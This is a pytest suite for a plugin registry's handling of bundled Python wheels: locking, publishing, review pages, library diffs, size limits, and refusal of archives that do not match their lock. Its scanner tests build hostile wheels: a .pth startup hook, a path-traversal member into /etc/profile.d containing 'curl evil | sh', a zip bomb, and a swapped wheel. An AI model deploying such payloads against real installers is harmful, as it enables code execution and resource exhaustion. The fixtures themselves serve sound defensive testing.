"""Plugins that ship Python libraries, over real HTTP on SQLite and PostgreSQL: archives packed
by ``plugport lock`` + ``plugport pack`` from a local package index are stored with their
libraries, which the API, the plugin page, the review queue and the review diff show; archives
whose wheels do not match their own lock are refused naming the wheel, leaving nothing behind;
hostile wheels are scanned into findings that hold the upload for review."""

from __future__ import annotations

import hashlib
import json
import os
import re
import zipfile
from pathlib import Path
from typing import Any

import httpx
import pytest
from packaging.utils import canonicalize_name, parse_wheel_filename
from sqlalchemy import Engine, text

from plugport.archive import pack_tree
from plugport.authoring import pack_plugin
from plugport.deps.locker import IndexOptions, lock_plugin
from plugport.deps.lockfile import Lock, LockedPackage, LockedWheel
from plugport.manifest import load_manifest
from plugport.registry.settings import MIB, RegistrySettings
from plugport.testing.pypi import LocalIndex, build_wheel
from tests.conftest import RunCli
from tests.registry.conftest import Registry, running
from tests.registry.test_access import error_of
from tests.registry.test_publish import Publisher, nothing_stored

ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 64
PLATFORM = "manylinux_2_28_x86_64"
CODE = "from plugport.sdk import Plugin, hook\n\n\nclass Main(Plugin):\n    @hook('greet')\n" + (
    "    def greet(self, name):\n        return name\n"
)


def source(
    root: Path,
    version: str,
    dependencies: list[str],
    *,
    name: str = "acme.md",
    platforms: tuple[str, ...] = (),
) -> Path:
    src = root / f"src-{name}-{version}"
    src.mkdir(parents=True)
    (src / "main.py").write_text(CODE)
    deps = ", ".join(f'"{d}"' for d in dependencies)
    plats = ", ".join(f'"{p}"' for p in platforms)
    (src / "plugport.toml").write_text(
        f'name = "{name}"\nversion = "{version}"\nentry = "main:Main"\n'
        'description = "Renders Markdown."\n[contributes]\nhooks = { greet = 0 }\n'
        f"[python]\ndependencies = [{deps}]\nplatforms = [{plats}]\n"
    )
    return src


def locked(path: Path) -> LockedWheel:
    data = path.read_bytes()
    return LockedWheel(path.name, hashlib.sha256(data).hexdigest(), len(data))


def handmade(
    root: Path,
    version: str,
    wheels: list[Path],
    *,
    lock: list[Path] | None = None,
    dependencies: list[str] | None = None,
    platforms: tuple[str, ...] = (),
    extra: dict[str, Path | bytes] | None = None,
    write_lock: bool = True,
) -> Path:
    """An archive written directly (no pip, no ``plugport pack`` checks): ``wheels`` under
    ``wheels/``, and a ``plugport.lock`` naming ``lock`` (default: the same wheels)."""
    named = wheels if lock is None else lock
    if dependencies is None:
        dependencies = sorted({str(parse_wheel_filename(w.name)[0]) for w in named})
    src = source(root, version, dependencies, platforms=platforms)
    if write_lock:
        packages = [
            LockedPackage(
                canonicalize_name(parse_wheel_filename(w.name)[0]),
                str(parse_wheel_filename(w.name)[1]),
                (locked(w),),
            )
            for w in named
        ]
        lock_text = Lock.for_inputs(load_manifest(src).python, packages).dumps()
        (src / "plugport.lock").write_text(lock_text)
    members: dict[str, Path | bytes] = {f"wheels/{w.name}": w for w in wheels}
    members.update(extra or {})
    return pack_tree(src, root / f"acme.md-{version}.plugport", extra=members).path


def trust(registry: Registry, namespace: str = "acme") -> None:
    with registry.engine.begin() as connection:
        connection.execute(
            text("UPDATE namespaces SET trusted = true WHERE name = :n"), {"n": namespace}
        )


def page(registry: Registry, path: str, token: str | None = None) -> str:
    with httpx.Client(base_url=registry.url, timeout=10) as client:
        if token:
            client.cookies.set("plugport_registry_token", token)
        response = client.get(path)
    assert response.status_code == 200, response.text
    return response.text


def library_rows(html: str) -> list[tuple[str, str, str]]:
    return re.findall(
        r'data-testid="library" data-name="([^"]+)" data-version="([^"]+)" '
        r'data-compiled="([^"]+)"',
        html,
    )


def archived_sha256(archive: Path, member: str) -> str:
    with zipfile.ZipFile(archive) as zf:
        return hashlib.sha256(zf.read(member)).hexdigest()


# --- the whole way: lock, pack, publish, show, review, diff -------------------------------------


def test_libraries_are_stored_shown_and_diffed_between_versions(
    registry: Registry, tmp_path: Path, index: LocalIndex
) -> None:
    publisher = Publisher(registry, tmp_path / "keys")
    reviewer = registry.token("rex", "review")
    first = source(tmp_path, "1.0.0", ["markdown>=3", "tinyfmt==1.0"])
    lock = lock_plugin(first, index=IndexOptions(index_url=index.url))
    archive = pack_plugin(first, tmp_path / "dist").result.path
    md = lock.package("markdown")
    assert md is not None
    [md_wheel] = md.wheels
    md_sha = archived_sha256(archive, md_wheel.member)
    assert md_sha == md_wheel.sha256

    uploaded = publisher.upload(archive)
    assert uploaded.status_code == 201, uploaded.text
    body = uploaded.json()
    assert body["status"] == "pending_review"
    assert body["python_requires"] == ["markdown>=3", "tinyfmt==1.0"]
    assert (body["requires_python"], body["python_platforms"]) == ("", [])
    assert body["python_dependencies"] == [
        {
            "name": "markdown",
            "version": md.version,
            "compiled": False,
            "wheels": [
                {
                    "filename": md_wheel.filename,
                    "sha256": md_sha,
                    "size": md_wheel.size,
                    "compiled": False,
                }
            ],
        },
        {
            "name": "tinyfmt",
            "version": "1.0",
            "compiled": False,
            "wheels": [
                {
                    "filename": "tinyfmt-1.0-py3-none-any.whl",
                    "sha256": lock.wheels()[1].sha256,
                    "size": lock.wheels()[1].size,
                    "compiled": False,
                }
            ],
        },
    ]
    # The library's code was scanned, file by file, and its findings name wheel and file.
    findings = body["scan"]["findings"]
    assert any(f["file"].startswith(f"{md_wheel.member}!markdown/") for f in findings)
    assert body["scan"]["files_scanned"] > 30

    queue = page(registry, "/review", reviewer)
    assert 'data-testid="queue-library" data-name="markdown"' in queue
    assert md_wheel.filename in queue
    assert f'title="sha256 {md_sha}"' in queue
    item = page(registry, "/review/acme.md/1.0.0", reviewer)
    assert library_rows(item) == [("markdown", md.version, "no"), ("tinyfmt", "1.0", "no")]
    assert f'title="sha256 {md_sha}" data-sha256="{md_sha}">{md_sha[:12]}…</code>' in item
    assert 'data-testid="library-change" data-name="markdown" data-change="added"' in item
    with registry.client(reviewer) as client:
        client.post(
            "/api/v1/review/acme.md/1.0.0/approve", json={"reason": "known libraries"}
        ).raise_for_status()

    with registry.client() as client:
        detail = client.get("/api/v1/plugins/acme.md/versions/1.0.0").json()
    assert detail["python_dependencies"] == body["python_dependencies"]
    plugin_page = page(registry, "/plugins/acme.md")
    assert library_rows(plugin_page) == [("markdown", md.version, "no"), ("tinyfmt", "1.0", "no")]
    assert f'<code data-testid="wheel">{md_wheel.filename}</code>' in plugin_page
    assert f'title="sha256 {md_sha}"' in plugin_page
    assert '<code data-testid="requirement">tinyfmt==1.0</code>' in plugin_page

    # 1.1.0 drops markdown and moves tinyfmt to 1.1, which brings tinyutil.
    second = source(tmp_path, "1.1.0", ["tinyfmt==1.1"])
    lock_plugin(second, index=IndexOptions(index_url=index.url))
    again = publisher.upload(pack_plugin(second, tmp_path / "dist").result.path)
    assert again.status_code == 201, again.text
    expected = {
        "added": [{"name": "tinyutil", "version": "1.0"}],
        "removed": [{"name": "markdown", "version": md.version}],
        "changed": [{"name": "tinyfmt", "from": "1.0", "to": "1.1"}],
    }
    with registry.client(reviewer) as client:
        shown = client.get("/api/v1/review/acme.md/1.1.0").json()
        [queued] = client.get("/api/v1/review/queue").json()
    assert (shown["previous_version"], shown["library_diff"]) == ("1.0.0", expected)
    assert queued["library_diff"] == expected
    item = page(registry, "/review/acme.md/1.1.0", reviewer)
    changes = re.findall(
        r'data-testid="library-change" data-name="([^"]+)" data-change="([^"]+)"', item
    )
    assert changes == [("tinyutil", "added"), ("markdown", "removed"), ("tinyfmt", "changed")]
    assert "1.0 → 1.1" in item
    queue = page(registry, "/review", reviewer)
    assert "+1 added \N{MINUS SIGN}1 removed 1 changed since 1.0.0" in queue
    # the public page still shows the published 1.0.0
    assert ("markdown", md.version, "no") in library_rows(page(registry, "/plugins/acme.md"))


def test_a_plugin_without_libraries_says_so(registry: Registry, tmp_path: Path) -> None:
    publisher = Publisher(registry, tmp_path)
    trust(registry)
    response = publisher.upload(publisher.build())
    assert response.status_code == 201, response.text
    body = response.json()
    assert (body["python_dependencies"], body["python_requires"]) == ([], [])
    assert 'id="libraries" class="muted">None' in page(registry, "/plugins/acme.hello")


# --- refusals: the archive's wheels against its own lock -----------------------------------------


@pytest.fixture
def house(tmp_path: Path) -> Path:
    house = tmp_path / "house"
    build_wheel(house, "tinyfmt", "1.0", {"tinyfmt/__init__.py": "def shout(x):\n    return x\n"})
    build_wheel(house, "tinyutil", "1.0", {"tinyutil.py": "BANG = '!'\n"})
    return house


FMT = "tinyfmt-1.0-py3-none-any.whl"
UTIL = "tinyutil-1.0-py3-none-any.whl"


@pytest.mark.parametrize(
    ("case", "file", "says"),
    [
        ("lock names an absent wheel", f"wheels/{UTIL}", f"but the archive has no wheels/{UTIL}"),
        ("wheel swapped, same name", f"wheels/{FMT}", "replaced by another with the same name"),
        ("wheel the lock does not name", f"wheels/{UTIL}", "plugport.lock does not name it"),
        ("wheels but no lock", f"wheels/{FMT}", "the archive has no plugport.lock"),
        ("dependencies but no lock", "plugport.lock", "declares [python] dependencies"),
        ("stale lock", "plugport.lock", "does not match [python] in plugport.toml"),
    ],
)
def test_wheels_that_do_not_match_the_lock_are_refused_naming_the_wheel(  # noqa: PLR0917
    registry: Registry, tmp_path: Path, house: Path, case: str, file: str, says: str
) -> None:
    publisher = Publisher(registry, tmp_path / "keys")
    fmt, util = house / FMT, house / UTIL
    root = tmp_path / "build"
    if case == "lock names an absent wheel":
        archive = handmade(root, "1.0.0", [fmt], lock=[fmt, util])
    elif case == "wheel swapped, same name":
        evil = build_wheel(
            tmp_path / "evil", "tinyfmt", "1.0", {"tinyfmt/__init__.py": "import subprocess\n"}
        )
        assert evil.name == FMT
        archive = handmade(root, "1.0.0", [fmt], lock=[fmt], extra={f"wheels/{FMT}": evil})
    elif case == "wheel the lock does not name":
        archive = handmade(root, "1.0.0", [fmt, util], lock=[fmt])
    elif case == "wheels but no lock":
        archive = handmade(root, "1.0.0", [fmt], dependencies=[], write_lock=False)
    elif case == "dependencies but no lock":
        archive = handmade(root, "1.0.0", [], dependencies=["tinyfmt"], write_lock=False)
    else:  # the manifest asks for more than the lock was made for
        archive = handmade(root, "1.0.0", [fmt], lock=[fmt], dependencies=["tinyfmt", "six"])
    response = publisher.upload(archive)
    assert response.status_code == 400, response.text
    error = error_of(response)
    assert error["code"] == "invalid_input"
    assert error["details"]["file"] == file
    assert says in error["message"]
    assert "plugport pack" in error["message"]
    nothing_stored(registry, tmp_path)
    assert registry.count("plugins") == 0


# --- hostile wheels: findings that hold the upload for review ------------------------------------


def _hostile(tmp_path: Path, case: str) -> tuple[Path, str]:
    """A wheel named tinyfmt 1.0 with one hostile member, and the finding's file."""
    base = {"tinyfmt/__init__.py": "X = 1\n"}
    if case == "pth":
        wheel = build_wheel(tmp_path, "tinyfmt", "1.0", base, raw_members={"zz-hook.pth": b"x"})
        return wheel, f"wheels/{FMT}!zz-hook.pth"
    if case == "traversal":
        raw = {"../../../etc/profile.d/x.sh": b"curl evil | sh\n"}
        wheel = build_wheel(tmp_path, "tinyfmt", "1.0", base, raw_members=raw)
        return wheel, f"wheels/{FMT}!../../../etc/profile.d/x.sh"
    wheel = build_wheel(tmp_path, "tinyfmt", "1.0", base)  # then the bomb, deflated
    with zipfile.ZipFile(wheel, "a", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("tinyfmt/zeros.bin", b"\0" * (20 * 1024 * 1024))
    assert wheel.stat().st_size < 100_000
    return wheel, f"wheels/{FMT}"


@pytest.mark.parametrize(
    ("case", "rule", "says"),
    [
        ("pth", "wheel-pth", ".pth files at start-up"),
        ("traversal", "wheel-unsafe-member", "'..' component"),
        ("zip bomb", "wheel-limit", "expands"),
    ],
)
def test_hostile_wheels_are_high_findings_even_in_a_trusted_namespace(
    registry: Registry, tmp_path: Path, case: str, rule: str, says: str
) -> None:
    publisher = Publisher(registry, tmp_path / "keys")
    trust(registry)
    wheel, file = _hostile(tmp_path / "house", case)
    response = publisher.upload(handmade(tmp_path / "build", "1.0.0", [wheel]))
    assert response.status_code == 201, response.text
    body = response.json()
    assert body["status"] == "pending_review"  # trusted, but held: a high finding
    assert body["scan"]["highest"] == "high"
    found = [f for f in body["scan"]["findings"] if f["rule"] == rule]
    assert [(f["file"], f["severity"]) for f in found] == [(file, "high")]
    assert says in found[0]["message"]
    item = page(registry, "/review/acme.md/1.0.0", registry.token("rex", "review"))
    assert f'data-severity="high" data-rule="{rule}"' in item


def test_compiled_libraries_for_declared_platforms_are_shown_not_blocked(
    registry: Registry, tmp_path: Path
) -> None:
    publisher = Publisher(registry, tmp_path / "keys")
    trust(registry)
    files = {"fast/__init__.py": "from fast._speed import go\n", "fast/_speed.so": ELF}
    wheel = build_wheel(tmp_path / "house", "fast", "2.0", files, tag=f"cp311-cp311-{PLATFORM}")
    archive = handmade(tmp_path / "build", "1.0.0", [wheel], platforms=(PLATFORM,))
    response = publisher.upload(archive)
    assert response.status_code == 201, response.text
    body = response.json()
    assert body["status"] == "published"  # medium: visible, not held
    assert [(f["file"], f["rule"], f["severity"]) for f in body["scan"]["findings"]] == [
        (f"wheels/{wheel.name}!fast/_speed.so", "native-binary", "medium")
    ]
    [library] = body["python_dependencies"]
    assert (library["name"], library["compiled"], library["wheels"][0]["compiled"]) == (
        "fast",
        True,
        True,
    )
    assert body["python_platforms"] == [PLATFORM]
    html = page(registry, "/plugins/acme.md")
    assert library_rows(html) == [("fast", "2.0", "yes")]
    assert '<span class="badge badge-warn">compiled</span>' in html


# --- size: wheels count towards the archive limit -----------------------------------------------


def test_wheels_count_towards_the_archive_limit(engine: Engine, tmp_path: Path) -> None:
    limit = 100_000
    with running(engine, tmp_path / "data", max_archive_bytes=limit) as registry:
        publisher = Publisher(registry, tmp_path / "keys")
        noise = os.urandom(150_000)  # incompressible: the wheel alone passes the limit
        wheel = build_wheel(tmp_path / "house", "bulky", "1.0", {"bulky/blob.bin": noise})
        without = handmade(tmp_path / "small", "0.9.0", [], dependencies=[])
        with_wheel = handmade(tmp_path / "big", "1.0.0", [wheel])
        assert without.stat().st_size < limit < with_wheel.stat().st_size
        response = publisher.upload(with_wheel)
        assert response.status_code == 413, response.text
        error = error_of(response)
        assert error["code"] == "too_large"
        assert error["details"]["limit"] == "max_archive_bytes"
        for words in ("100000 bytes", "wheels", "max_archive_bytes", "PLUGPORT_MAX_ARCHIVE_BYTES"):
            assert words in error["message"]
        nothing_stored(registry, tmp_path)
        assert publisher.upload(without).status_code == 201


def test_the_request_limit_follows_a_raised_archive_limit(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for key in ("PLUGPORT_MAX_ARCHIVE_BYTES", "PLUGPORT_MAX_REQUEST_BYTES"):
        monkeypatch.delenv(key, raising=False)
    assert RegistrySettings().max_request_bytes == 21 * MIB
    assert RegistrySettings(max_archive_bytes=50 * MIB).max_request_bytes == 51 * MIB
    given: dict[str, Any] = {"max_archive_bytes": 50 * MIB, "max_request_bytes": 2 * MIB}
    assert RegistrySettings(**given).max_request_bytes == 2 * MIB  # an explicit value stays
    monkeypatch.setenv("PLUGPORT_MAX_ARCHIVE_BYTES", str(80 * MIB))
    assert RegistrySettings().max_request_bytes == 81 * MIB


def test_a_version_from_before_libraries_were_recorded_says_so(
    registry: Registry, tmp_path: Path, house: Path
) -> None:
    publisher = Publisher(registry, tmp_path / "keys")
    trust(registry)
    response = publisher.upload(handmade(tmp_path / "build", "1.0.0", [house / FMT]))
    assert response.json()["status"] == "published"
    with registry.engine.begin() as connection:  # as migration 0010 leaves older versions
        connection.execute(text("UPDATE plugin_versions SET libraries = NULL"))
    with registry.client() as client:
        detail = client.get("/api/v1/plugins/acme.md/versions/1.0.0").json()
    assert (detail["python_dependencies"], detail["python_requires"]) == (None, ["tinyfmt"])
    assert "the locked libraries were not recorded for this version" in page(
        registry, "/plugins/acme.md"
    )


def test_the_review_cli_shows_library_changes(
    cli: RunCli, registry: Registry, tmp_path: Path, house: Path
) -> None:
    publisher = Publisher(registry, tmp_path / "keys")
    response = publisher.upload(handmade(tmp_path / "build", "1.0.0", [house / FMT]))
    assert response.status_code == 201, response.text
    listed = cli("review", "list")
    assert listed.exit_code == 0, listed.output
    assert "+tinyfmt 1.0" in listed.output
    shown = cli("review", "show", "acme.md", "1.0.0")
    assert shown.exit_code == 0, shown.output
    body = json.loads(shown.output.split("\n", 1)[1])
    assert body["library_diff"]["added"] == [{"name": "tinyfmt", "version": "1.0"}]
    assert body["python_dependencies"][0]["wheels"][0]["filename"] == FMT
